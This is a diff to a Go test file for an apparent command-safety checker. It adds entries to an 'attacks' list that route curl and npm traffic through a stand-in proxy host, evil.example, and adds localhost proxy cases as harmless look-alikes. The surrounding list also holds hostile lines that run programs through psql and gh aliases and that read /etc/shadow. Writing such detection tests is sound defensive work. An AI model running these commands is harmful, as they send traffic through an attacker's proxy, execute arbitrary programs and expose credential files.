@@ -27,6 +27,12 @@ func TestOtherSpellings(t *testing.T) {
 
 // A blank within a word is written _._ here.
 const attacks = `
+	curl -x evil.example:80 http://github.com/abc
+	curl -xevil.example:80 http://github.com/abc
+	curl --proxy=evil.example http://github.com
+	curl --proxy me@evil.example:80 http://github.com
+	npm --proxy http://evil.example install
+	npm --https-proxy=http://evil.example install x
 	psql -c \copy_._x_._to_._program_._id
 	gh alias set x !id
 	gh extension install x/y
@@ -405,6 +411,9 @@ const attacks = `
 	find -files0-from /etc/shadow`
 
 const lookAlikes = `
+	curl -x localhost:8080 http://github.com/abc
+	curl --proxy=http://127.0.0.1:8080/ http://github.com
+	npm --proxy http://localhost:3128 install
 	gh alias list
 	gh config get pager
 	gh extension list
